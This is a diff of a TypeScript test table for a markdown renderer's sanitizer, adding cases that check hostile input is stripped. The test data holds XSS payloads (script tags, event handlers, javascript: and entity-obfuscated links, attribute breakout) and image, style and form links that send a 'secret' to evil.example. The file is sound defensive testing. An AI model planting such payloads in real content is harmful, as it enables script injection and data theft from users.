@@ -3,16 +3,20 @@ import { renderMarkdown } from './renderMarkdown.ts';
 
 describe('renderMarkdown', () => {
   it.each([
-    ['script', '<script>alert(1)</script>hello', 'script'],
-    ['event handler', '<p onclick="alert(1)">hello</p>', 'onclick'],
+    ['script', '<script>alert(1)</script>hello', '<script'],
+    ['event handler', '<p onclick="alert(1)">hello</p>', '<p onclick'],
     ['image', '![x](https://evil.example/?d=secret)', 'evil.example'],
-    ['raw image', '<img src=x onerror=alert(1)>', 'img'],
-    ['frame', '<iframe src="https://evil.example"></iframe>', 'iframe'],
-    ['svg', '<svg onload=alert(1)></svg>', 'svg'],
-    ['style', '<p style="background:url(https://evil.example)">x</p>', 'evil.example'],
-    ['form', '<form action="https://evil.example"><input name=q></form>', 'evil.example'],
+    ['image by reference', '![x][1]\n\n[1]: https://evil.example/?d=secret', 'evil.example'],
+    ['raw image', '<img src=x onerror=alert(1)>', '<img'],
+    ['frame', '<iframe src="https://evil.example"></iframe>', '<iframe'],
+    ['svg', '<svg onload=alert(1)></svg>', '<svg'],
+    ['inline html', 'hello <b onmouseover=alert(1)>you</b>', '<b'],
+    ['style', '<p style="background:url(https://evil.example)">x</p>', '<p style'],
     ['javascript link', '[x](javascript:alert(1))', 'javascript:'],
+    ['entity javascript link', '[x](java&#115;cript:alert(1))', 'href'],
     ['data link', '[x](data:text/html,hello)', 'data:'],
+    ['link that breaks out of its attribute', '[x](https://a.example/"onmouseover="alert(1))', '"onmouseover'],
+    ['html in alternative text', '![<img src=x onerror=alert(1)>](https://evil.example)', '<img'],
   ])('drops %s', (_, text, trace) => {
     expect(renderMarkdown(text)).not.toContain(trace);
   });
